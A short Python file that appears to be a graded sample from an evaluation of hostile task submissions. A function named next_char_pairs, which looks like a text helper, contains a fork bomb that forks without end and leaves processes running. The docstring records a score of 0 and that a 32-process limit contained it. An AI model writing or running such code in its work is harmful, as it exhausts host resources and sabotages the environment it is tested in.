"""Forks without end as it is checked, and leaves everything running.

Earns: 0
Says: limit of 32 processes|ended its own process
On: stub
"""

import os
import time


def next_char_pairs(text, vocab):
    while True:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    time.sleep(60)
